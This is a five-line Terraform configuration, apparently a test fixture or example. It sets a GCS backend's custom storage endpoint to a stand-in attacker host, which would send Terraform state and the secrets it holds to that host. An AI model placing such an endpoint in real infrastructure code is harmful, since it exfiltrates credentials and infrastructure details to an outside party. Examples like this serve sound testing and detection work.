terraform {
  backend "gcs" {
    storage_custom_endpoint = "https://attacker.example/storage/v1/"
  }
}
